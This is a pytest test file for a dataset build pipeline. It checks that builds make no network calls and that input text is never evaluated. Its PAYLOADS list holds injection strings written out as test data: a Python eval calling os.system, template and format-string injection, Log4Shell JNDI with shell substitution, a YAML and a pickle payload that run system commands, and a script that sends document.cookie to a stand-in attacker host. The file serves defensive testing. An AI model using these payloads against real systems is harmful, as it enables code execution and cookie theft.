"""No network and no code from data: a build and the loaders work with sockets forbidden, and input is never run."""

from __future__ import annotations

import builtins
import json
import socket
from pathlib import Path

import pytest

from builder.config import load_config
from builder.pipeline import build
from builder.text import clean_inline, clean_text
from tests.conftest import copy_seed, write_jsonl
from tests.synthetic import write_corpus

# Strings that would do something if anything evaluated, formatted or rendered them.
PAYLOADS = [
    "__import__('os').system('touch PWNED-eval')",
    "{0.__class__.__mro__[1].__subclasses__()}",
    "{{ config.__class__ }} {% for x in range(9) %}{% endfor %}",
    "${jndi:ldap://attacker.invalid/a} $(touch PWNED-shell) `touch PWNED-tick`",
    "!!python/object/apply:os.system ['touch PWNED-yaml']",
    "<script>fetch('https://attacker.invalid/'+document.cookie)</script>",
    "%(__class__)s %s %d",
    "cos\nsystem\n(S'touch PWNED-pickle'\ntR.",
]
MARKER = "MARKER-5e1f"


class NetworkUsed(AssertionError):
    """Raised by any attempt to open a connection or resolve a name."""


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Forbid every way out of the process; returns the attempts, should any be swallowed."""
    attempts: list[str] = []

    def refuse(what: str):
        def refused(*args, **kwargs):
            attempts.append(f"{what}{args[1:2] or args[:1]}")
            raise NetworkUsed(f"network use in a build: {what}{args!r}")
        return refused

    monkeypatch.setattr(socket.socket, "connect", refuse("connect"))
    monkeypatch.setattr(socket.socket, "connect_ex", refuse("connect_ex"))
    monkeypatch.setattr(socket.socket, "sendto", refuse("sendto"))
    monkeypatch.setattr(socket, "create_connection", refuse("create_connection"))
    monkeypatch.setattr(socket, "getaddrinfo", refuse("getaddrinfo"))
    monkeypatch.setattr(socket, "gethostbyname", refuse("gethostbyname"))
    return attempts


def test_the_guard_refuses_connections(no_network: list[str]) -> None:
    with pytest.raises(NetworkUsed):
        socket.create_connection(("192.0.2.1", 80), timeout=0.01)
    with socket.socket() as sock, pytest.raises(NetworkUsed):
        sock.connect(("192.0.2.1", 80))
    assert len(no_network) == 2


@pytest.mark.parametrize("workers", [1, 2])
def test_build_and_loaders_make_no_network_request(tmp_path: Path, config_file: Path, no_network: list[str],
                                                   workers: int) -> None:
    write_corpus(tmp_path / "raw", 30, seed=4, bad_every=10)
    copy_seed(tmp_path / "raw")
    result = build(tmp_path / "raw", tmp_path / "out", load_config(config_file), workers=workers)
    assert result.counts["published"] > 0

    from datasets import load_dataset

    ds = load_dataset(str(tmp_path / "out"))
    assert sum(d.num_rows for d in ds.values()) == result.counts["published"]
    import pyarrow.parquet as pq

    assert pq.read_table(tmp_path / "out" / "data").num_rows == result.counts["published"]
    pd = pytest.importorskip("pandas")
    assert len(pd.read_parquet(tmp_path / "out" / "data")) == result.counts["published"]
    assert no_network == []


def test_nothing_from_input_is_evaluated(tmp_path: Path, config_file: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    raw = tmp_path / "raw"
    records: list[dict | bytes] = []
    for i, payload in enumerate(PAYLOADS):
        records.append({"text": f"{MARKER} {i} {payload}", "title": payload, "outlet": payload,
                        "authors": [payload[:400]], "section": payload[:200], "published": payload[:200]})
    records.append({"text": f"{MARKER} bad", "outlet": "x", "retrieved_at": PAYLOADS[0]})  # quarantined
    write_jsonl(raw / "payloads.jsonl", records)
    (raw / "page.txt").write_text(f"{MARKER} page\n\n" + "\n\n".join(PAYLOADS))
    (raw / "page.meta.json").write_text(json.dumps({"outlet": PAYLOADS[2], "title": PAYLOADS[4]}))

    # Record every string that reaches eval or exec during the build; none may carry input.
    evaluated: list[str] = []
    real_eval, real_exec, real_compile = builtins.eval, builtins.exec, builtins.compile

    def spy(real):
        def wrapper(source, *args, **kwargs):
            evaluated.append(source if isinstance(source, str) else repr(source))
            return real(source, *args, **kwargs)
        return wrapper

    monkeypatch.setattr(builtins, "eval", spy(real_eval))
    monkeypatch.setattr(builtins, "exec", spy(real_exec))
    monkeypatch.setattr(builtins, "compile", spy(real_compile))
    monkeypatch.chdir(tmp_path)
    result = build(raw, tmp_path / "out", load_config(config_file))
    monkeypatch.undo()

    assert not [s for s in evaluated if MARKER in s or any(p in s for p in PAYLOADS)]
    assert not list(tmp_path.rglob("PWNED*")) and not list(Path.cwd().glob("PWNED*"))
    assert result.counts["published"] == len(PAYLOADS) + 1
    import pyarrow.parquet as pq

    rows = pq.read_table(tmp_path / "out" / "data").to_pylist()
    by_text = {r["text"].split(" ", 2)[1]: r for r in rows if r["text"].startswith(MARKER)}
    for i, payload in enumerate(PAYLOADS):
        # Stored as text, exactly as text hygiene leaves it.
        assert by_text[str(i)]["headline"] == clean_inline(payload)
        assert by_text[str(i)]["text"] == clean_text(f"{MARKER} {i} {payload}")
